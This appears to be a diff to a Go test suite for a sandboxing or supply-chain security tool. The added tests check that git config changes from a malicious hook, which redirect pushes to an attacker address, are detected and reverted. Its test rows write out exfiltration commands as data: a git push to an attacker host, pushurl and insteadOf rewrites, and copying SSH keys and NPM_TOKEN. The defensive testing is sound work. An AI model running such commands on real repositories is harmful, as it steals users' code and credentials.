@@ -120,6 +120,8 @@ var supply6Rows = []supplyRow{
 	{action: "sni=registry.test:8080,evil-sni.test", sink: "evil-sni.test", kind: report.KindNetwork, key: "evil-sni.test"},
 	{action: "redirect=registry.test:8080", sink: "loot-redirected", kind: report.KindNetwork, key: "10.78.0.9:4445", unobservable: portUnseen},
 	{action: "run=git push -q http://10.78.0.9:4446/loot.git HEAD:refs/heads/loot", sink: "loot.git", kind: report.KindFile, key: "10.78.0.9:4446|bin/git exec|git-core/git exec|git-remote-http exec|" + spawnRefused, unobservable: portUnseen + "|" + fileDenied},
+	// The user's next push (unsandboxed, with the user's credentials) goes to the attacker.
+	{action: "run=git config remote.origin.pushurl http://10.78.0.9:4446/loot.git", host: "$WORKDIR/.git/config", kind: report.KindFile, key: ".git/config|bin/git exec|" + spawnRefused, unobservable: fileDenied},
 	{action: "copyout=$HOME/.ssh/id_ed25519", leak: "bytes of secret", kind: "hidden", key: ".ssh/id_ed25519", unobservable: fileDenied},
 	{action: "copyout=$WORKDIR/.git/config", leak: "bytes of secret", kind: "hidden", key: ".git/config", unobservable: fileDenied},
 	{action: "copyout=env:NPM_TOKEN", leak: "bytes of secret", kind: "env", key: "NPM_TOKEN"},
@@ -149,7 +151,7 @@ func sixthRound(suite *testing.T) supplyExtra {
 			sib := filepath.Join(filepath.Dir(b.Work), "sibling")
 			testutil.WriteFile(t, filepath.Join(sib, "Makefile"), "all:\n\t@echo sibling\n", 0o644)
 			testutil.WriteFile(t, filepath.Join(sib, "node_modules", ".bin", "tsc"), "#!/bin/sh\necho tsc\n", 0o755)
-			b.Sh(t, "cd ../sibling && git init -q .")
+			b.Sh(t, "cd ../sibling && git init -q . && cd ../work && git remote add origin https://github.com/example/app.git")
 			// The project next door is the same user's.
 			chownTree(t, sib, 65534)
 		},
@@ -307,4 +309,28 @@ func TestSupplyChainSessionSecretsUnderWideRead(t *testing.T) {
 			checkSupplyRun(t, b, r, rows, arm, rep, "", nil, nil, as.wrap != nil)
 		})
 	}
+}
+
+// redirectRows send the user's next push (outside any sandbox, with the user's credentials)
+// to the attacker: a pushurl, another URL of origin, insteadOf and pushInsteadOf.
+var redirectRows = []supplyRow{
+	{action: "run=git config remote.origin.pushurl http://10.78.0.9:4446/loot.git", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
+	{action: "run=git remote set-url origin http://10.78.0.9:4446/loot.git", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
+	{action: "run=git config url.http://10.78.0.9:4446/.insteadOf https://github.com/", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
+	{action: "run=git config url.http://10.78.0.9:4446/.pushInsteadOf https://github.com/", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
+}
+
+// TestSupplyChainGitPushRedirected: a pre-commit hook under a learned `git commit` (which writes
+// .git whole) points the repository's pushes at the attacker. With a config that holds no
+// credential (masked ones make it read-only), the write lands in the bound .git: the sweep
+// must put the host's config back and hold the run's as dangerous (changeset.GitConfigRuns).
+func TestSupplyChainGitPushRedirected(t *testing.T) {
+	v := supplyVectors[slices.IndexFunc(supplyVectors, func(v supplyVector) bool { return v.name == "git-hook" })]
+	setup := v.setup
+	v.name = "git-hook-plain-config"
+	v.setup = func(t *testing.T, sc *supplyEnv, b *testutil.Box) {
+		setup(t, sc, b)
+		b.Sh(t, "git config --unset http.https://github.com/.extraheader && git remote add origin https://github.com/example/app.git")
+	}
+	runSupplySuite(t, []supplyVector{v}, redirectRows)
 }
